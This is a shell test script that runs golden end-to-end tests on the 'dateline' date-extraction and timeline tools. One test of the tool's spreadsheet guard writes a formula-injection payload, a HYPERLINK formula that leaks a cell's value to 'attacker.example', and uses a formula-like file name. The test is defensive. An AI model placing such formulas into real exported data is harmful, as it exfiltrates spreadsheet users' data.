#!/bin/sh
# End-to-end golden tests: run the built programs on fixtures/ and compare
# their output byte for byte with tests/golden/.  TAP output.
# UPDATE_GOLDEN=1 rewrites the expected files (review the diff!).
set -u
src=${DATELINE_SOURCE_ROOT:?}
build=${DATELINE_BUILD_ROOT:?}
extract=$build/extract/dateline-extract
normalize=$build/normalize/dateline-normalize
timeline=$build/timeline/dateline-timeline
dateline=$build/dateline/dateline
fx=$src/fixtures
golden=$src/tests/golden
tmp=$(mktemp -d) || exit 1
trap 'rm -rf "$tmp"' EXIT
. "$src/tests/wrapper.sh"
extract=$(wrapped "$extract" "$tmp")
normalize=$(wrapped "$normalize" "$tmp")
timeline=$(wrapped "$timeline" "$tmp")
dateline=$(wrapped "$dateline" "$tmp")
cd "$fx" || exit 1
n=0
failed=0

ok () { n=$((n + 1)); echo "ok $n - $1"; }
not_ok () { n=$((n + 1)); failed=$((failed + 1)); echo "not ok $n - $1"; }

# golden NAME: compares $tmp/NAME with $golden/NAME.
golden () {
  if [ "${UPDATE_GOLDEN:-}" = 1 ]; then
    cp "$tmp/$1" "$golden/$1"
  fi
  if cmp -s "$tmp/$1" "$golden/$1"; then
    ok "$1"
  else
    not_ok "$1"
    diff -u "$golden/$1" "$tmp/$1" | sed 's/^/# /' | head -40
  fi
}

# expect NAME STATUS CMD...: runs CMD, stdout+stderr to $tmp/NAME, checks
# the exit status and the golden output.
expect () {
  name=$1 want=$2
  shift 2
  "$@" >"$tmp/$name" 2>&1
  got=$?
  if [ "$got" != "$want" ]; then
    not_ok "$name exits $want (got $got)"
    sed 's/^/# /' "$tmp/$name" | head -20
    return
  fi
  golden "$name"
}

ref=--reference-date=2025-06-07

# The three stages one by one, each from the previous one's output.
"$extract" $ref harbor-article.txt >"$tmp/harbor.mentions.csv" 2>/dev/null
golden harbor.mentions.csv
"$normalize" "$tmp/harbor.mentions.csv" >"$tmp/harbor.ranges.csv" 2>/dev/null
golden harbor.ranges.csv
"$timeline" <"$tmp/harbor.ranges.csv" >"$tmp/harbor.timeline.csv"
golden harbor.timeline.csv

# Anchored to an event from an anchors file: "five days prior" to the
# strike, "before the 2019 harbour strike".
"$dateline" $ref --anchors harbor-anchors.csv --no-default-anchors \
  harbor-article.txt >"$tmp/harbor-anchored.timeline.csv" 2>/dev/null
golden harbor-anchored.timeline.csv

# The whole pipeline in one process gives the same timeline.
"$dateline" $ref harbor-article.txt >"$tmp/dateline.csv" 2>/dev/null
if cmp -s "$tmp/dateline.csv" "$tmp/harbor.timeline.csv"; then
  ok "dateline equals the three stages"
else
  not_ok "dateline equals the three stages"
fi

# The event of each mention (its clause), and lines without full stops (a
# log, a list) read as one sentence each.
"$extract" $ref clauses-article.txt server-log.txt \
  >"$tmp/clauses.mentions.csv" 2>&1
golden clauses.mentions.csv

# A JSON Lines archive: a document a line, its id and date; a line with a
# bad date or without text is an error naming the line, and the others go
# on (exit 1).
expect archive.out 1 "$extract" $ref archive.jsonl

# --dates gives each plain-text file its date; a file not listed takes
# --reference-date.
"$extract" $ref --dates archive-dates.csv clauses-article.txt harbor-article.txt \
  | cut -d, -f1,2 | uniq >"$tmp/archive-dates.out" 2>&1
golden archive-dates.out

# TimeML: DCT from the document, markup skipped, offsets into the file.
expect sample.mentions.csv 0 "$extract" sample.tml
"$dateline" - <sample.tml >"$tmp/sample.timeline.csv" 2>&1
golden sample.timeline.csv

# Standard input is "-" and the default.
"$extract" $ref <harbor-article.txt >"$tmp/stdin.csv" 2>/dev/null
sed 's/^-,/harbor-article.txt,/' "$tmp/stdin.csv" >"$tmp/stdin-renamed.csv"
if cmp -s "$tmp/stdin-renamed.csv" "$tmp/harbor.mentions.csv"; then
  ok "stdin reads like a file"
else
  not_ok "stdin reads like a file"
fi

# Columns the user added pass through every stage.
"$normalize" extra-column.csv | "$timeline" >"$tmp/extra-column.timeline.csv"
golden extra-column.timeline.csv

# Bad input: clear message naming file and line, exit 1, good files still
# processed.
expect bad-utf8.out 1 "$extract" $ref bad-utf8.txt harbor-article.txt
expect missing-column.out 1 "$normalize" bad-missing-column.csv
expect missing-file.out 1 "$timeline" no-such-file.csv
expect bad-option.out 2 "$extract" --no-such-option
expect bad-date.out 2 "$normalize" --reference-date=2022-02-30 extra-column.csv

# Bad rows are told, skipped and counted, and reading goes on: a quote
# inside a field, a row too wide, a quote never closed (the rows after it
# are read again); a byte order mark before the header is dropped and a
# copy of the header further down is skipped.
expect bad-rows.out 1 "$normalize" bad-rows.csv

# Outputs joined into one stream read like the files one by one.
"$extract" $ref harbor-article.txt >"$tmp/a.csv" 2>/dev/null
"$extract" sample.tml >"$tmp/b.csv" 2>/dev/null
"$normalize" "$tmp/a.csv" "$tmp/b.csv" >"$tmp/ab.csv" 2>/dev/null
cat "$tmp/a.csv" "$tmp/b.csv" | "$normalize" >"$tmp/joined.csv" 2>/dev/null
if cmp -s "$tmp/ab.csv" "$tmp/joined.csv"; then
  ok "a copy of the header inside a stream is skipped"
else
  not_ok "a copy of the header inside a stream is skipped"
fi
# A different header inside a stream is an error naming file and line, and
# no row under it becomes data.
cat "$golden/harbor.mentions.csv" "$golden/harbor.ranges.csv" \
  | "$normalize" >"$tmp/mixed.csv" 2>"$tmp/mixed.err"
status=$?
rows=$(grep -c '' "$golden/harbor.mentions.csv")
if [ "$status" = 1 ] && [ "$(grep -c '' "$tmp/mixed.csv")" = "$rows" ] \
   && grep -q "^dateline-normalize: -:$((rows + 1)): a header unlike the first" "$tmp/mixed.err" \
   && grep -q "^dateline-normalize: $((rows - 1)) rows skipped" "$tmp/mixed.err"; then
  ok "a different header inside a stream is an error"
else
  not_ok "a different header inside a stream is an error (exit $status)"
  sed 's/^/# /' "$tmp/mixed.err"
fi

# The spreadsheet guard: a sentence that starts with a formula and a file
# named like one give cells with one leading quote, in every stage; each
# stage reads the quote off again, so the three stages give what dateline
# gives; --raw writes cells as they are.
printf '=HYPERLINK("http://attacker.example/?leak="&E2,"Report") was filed on 5 May 2020.\n' \
  >"$tmp/=1+2.txt"
(cd "$tmp" && "$dateline" $ref '=1+2.txt') >"$tmp/guard.timeline.csv" 2>&1
golden guard.timeline.csv
(cd "$tmp" && "$extract" $ref '=1+2.txt' | "$normalize" | "$timeline") \
  >"$tmp/guard-stages.csv" 2>&1
if cmp -s "$tmp/guard-stages.csv" "$tmp/guard.timeline.csv"; then
  ok "the guard's quote goes through the stages once"
else
  not_ok "the guard's quote goes through the stages once"
  diff "$tmp/guard.timeline.csv" "$tmp/guard-stages.csv" | sed 's/^/# /'
fi
(cd "$tmp" && "$extract" --raw $ref '=1+2.txt' | "$normalize" --raw \
   | "$timeline" --raw) >"$tmp/guard-raw.csv" 2>&1
if grep -q '^2020-05-05,2020-05-05,5 May 2020,.*,=1+2.txt:1,.*,"=HYPERLINK(' "$tmp/guard-raw.csv"; then
  ok "--raw writes cells as they are"
else
  not_ok "--raw writes cells as they are"
  sed 's/^/# /' "$tmp/guard-raw.csv"
fi

# Every format of every stage reads back: TSV and JSON Lines through the
# stages give the timeline CSV gives.
for f in tsv jsonl; do
  "$extract" $ref --format=$f harbor-article.txt 2>/dev/null \
    | "$normalize" -f $f 2>/dev/null | "$timeline" >"$tmp/via-$f.csv" 2>/dev/null
  if cmp -s "$tmp/via-$f.csv" "$golden/harbor.timeline.csv"; then
    ok "through the stages as $f"
  else
    not_ok "through the stages as $f"
    diff "$golden/harbor.timeline.csv" "$tmp/via-$f.csv" | sed 's/^/# /' | head -10
  fi
done

# -o FILE: the format follows the extension; nothing is left beside FILE;
# a folder that is not there is an error (exit 1), a format that is not,
# a usage error (exit 2).
mkdir "$tmp/out"
"$dateline" $ref -o "$tmp/out/t.jsonl" harbor-article.txt 2>/dev/null
"$timeline" -o "$tmp/out/t.tsv" "$golden/harbor.ranges.csv"
"$normalize" "$golden/harbor.mentions.csv" -o "$tmp/out/r.csv" 2>/dev/null
if [ "$(head -c 10 "$tmp/out/t.jsonl")" = '{"start":"' ] \
   && [ "$(head -n 1 "$tmp/out/t.tsv" | cut -f 1-3)" = "$(printf 'start\tend\twhen')" ] \
   && cmp -s "$tmp/out/r.csv" "$golden/harbor.ranges.csv" \
   && [ "$(ls -A "$tmp/out" | tr '\n' ' ')" = "r.csv t.jsonl t.tsv " ]; then
  ok "-o FILE"
else
  not_ok "-o FILE"
  ls -A "$tmp/out" | sed 's/^/# /'
fi
"$timeline" -o /nonexistent/t.csv "$golden/harbor.ranges.csv" 2>"$tmp/o.err"
s1=$?
"$timeline" --format=xlsx-no "$golden/harbor.ranges.csv" >/dev/null 2>>"$tmp/o.err"
s2=$?
if [ "$s1" = 1 ] && [ "$s2" = 2 ] \
   && grep -q '^dateline-timeline: /nonexistent/t.csv: No such file or directory$' "$tmp/o.err" \
   && grep -q '^dateline-timeline: --format is one of csv, tsv, jsonl, xlsx, timelinejs, html, not "xlsx-no"$' "$tmp/o.err"; then
  ok "-o and --format errors"
else
  not_ok "-o and --format errors: exit $s1 and $s2"
  sed 's/^/# /' "$tmp/o.err"
fi
# Killed halfway, a run leaves FILE as it was and no temporary file.
echo old >"$tmp/out/k.csv"
(sleep 3; cat harbor-article.txt) | "$extract" $ref -o "$tmp/out/k.csv" &
pid=$!
sleep 1
kill -TERM "$pid" 2>/dev/null
wait "$pid" 2>/dev/null
if [ "$(cat "$tmp/out/k.csv")" = old ] && [ "$(ls -A "$tmp/out" | grep -c k.csv)" = 1 ]; then
  ok "an interrupted run leaves FILE as it was"
else
  not_ok "an interrupted run leaves FILE as it was"
  ls -A "$tmp/out" | sed 's/^/# /'
fi

# The date order is -d now (-o is the output file).
printf 'It was signed on 03/04/2021.\n' >"$tmp/order.txt"
if "$extract" $ref -d dmy "$tmp/order.txt" | grep -q ',2021-04-03,' \
   && "$dateline" $ref --date-order=mdy "$tmp/order.txt" | grep -q '^2021-03-04,'; then
  ok "-d sets the date order"
else
  not_ok "-d sets the date order"
fi

# Forms no grammar writes (absurd numbers, repeated keys, day 0001-01-01,
# 9999-12-31): every row comes out, with exit 0; under the sanitizers this
# also checks for leaks and overflows.
rows_in=$(grep -c '' odd-forms.csv)
for opts in "" "--hemisphere=south --fiscal-year-start=10" "--style=narrative"; do
  # shellcheck disable=SC2086
  "$normalize" $opts odd-forms.csv >"$tmp/odd.csv" 2>"$tmp/odd.err"
  status=$?
  rows_out=$(python3 -c 'import csv,sys; print(sum(1 for _ in csv.reader(open(sys.argv[1]))))' "$tmp/odd.csv")
  if [ "$status" = 0 ] && [ "$rows_out" = "$rows_in" ]; then
    ok "odd forms ${opts:-(no options)}: $rows_in rows in, $rows_out out"
  else
    not_ok "odd forms ${opts:-(no options)}: exit $status, $rows_in rows in, $rows_out out"
    sed 's/^/# /' "$tmp/odd.err" | head -20
  fi
done

# A closed stdout ends quietly: no write error, however long the output.
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do cat harbor-article.txt; done \
  >"$tmp/long.txt"
for i in 1 2 3 4 5 6 7 8; do cat "$tmp/long.txt"; done >"$tmp/longer.txt"
"$extract" $ref "$tmp/longer.txt" 2>"$tmp/pipe.err" | head -1 >/dev/null
if ! grep -qi "write\|pipe" "$tmp/pipe.err"; then ok "quiet under | head"; else
  not_ok "quiet under | head"; sed 's/^/# /' "$tmp/pipe.err"; fi

# A full disk: exit 1, and the write error told once.
# full_disk NAME CMD...
full_disk () {
  name=$1
  shift
  "$@" >/dev/full 2>"$tmp/full.err"
  status=$?
  told=$(grep -c "standard output" "$tmp/full.err")
  if [ "$status" = 1 ] && [ "$told" = 1 ]; then
    ok "$name on a full disk"
  else
    not_ok "$name on a full disk: exit $status, told $told times"
    sed 's/^/# /' "$tmp/full.err"
  fi
}
if [ -w /dev/full ]; then
  full_disk extract "$extract" $ref harbor-article.txt
  full_disk normalize "$normalize" "$golden/harbor.mentions.csv"
  full_disk timeline "$timeline" "$golden/harbor.ranges.csv"
  full_disk dateline "$dateline" $ref harbor-article.txt
fi

# --help to a full disk fails as any other output does.
if [ -w /dev/full ]; then
  for p in "$extract" "$normalize" "$timeline" "$dateline"; do
    "$p" --help >/dev/full 2>"$tmp/help.err"
    status=$?
    if [ "$status" = 1 ] && grep -q "^$(basename "$p"): standard output: " "$tmp/help.err"; then
      ok "$(basename "$p") --help on a full disk"
    else
      not_ok "$(basename "$p") --help on a full disk: exit $status"
    fi
  done
fi

# "--" ends the options and is no file name.
cp harbor-article.txt "$tmp/-r.txt"
(cd "$tmp" && "$extract" --raw $ref -- -r.txt >"$tmp/dashdash.csv" 2>"$tmp/dashdash.err")
status=$?
if [ "$status" = 0 ] && [ "$(sed 1d "$tmp/dashdash.csv" | cut -d, -f1 | sort -u)" = "-r.txt" ]; then
  ok "-- ends the options"
else
  not_ok "-- ends the options: exit $status"
  sed 's/^/# /' "$tmp/dashdash.err"
fi

# Usage errors exit 2: a date with more after it, a --grammar that is not
# there.  GLib's own messages show their quotes (the locale is set).
for p in "$extract" "$normalize" "$dateline"; do
  "$p" --reference-date "2023-01-01 garbage" /dev/null >/dev/null 2>&1
  s1=$?
  "$p" --grammar /nonexistent /dev/null >/dev/null 2>"$tmp/grammar.err"
  s2=$?
  if [ "$s1" = 2 ] && [ "$s2" = 2 ] \
     && grep -q "^$(basename "$p"): --grammar /nonexistent: " "$tmp/grammar.err"; then
    ok "$(basename "$p"): a bad date or --grammar is a usage error"
  else
    not_ok "$(basename "$p"): a bad date or --grammar: exit $s1 and $s2"
  fi
done
mkdir -p "$tmp/empty-grammar/en"
LC_ALL=C.UTF-8 "$extract" --grammar "$tmp/empty-grammar" /dev/null 2>"$tmp/quotes.err"
if grep -q '“' "$tmp/quotes.err" && ! grep -q '?' "$tmp/quotes.err"; then
  ok "GLib's quotes in messages"
else
  not_ok "GLib's quotes in messages"
  sed 's/^/# /' "$tmp/quotes.err"
fi

for p in "$extract" "$normalize" "$timeline" "$dateline"; do
  if "$p" --help >/dev/null && "$p" --version | grep -q dateline; then
    ok "$(basename "$p") --help and --version"
  else
    not_ok "$(basename "$p") --help and --version"
  fi
done

echo "1..$n"
[ "$failed" = 0 ]
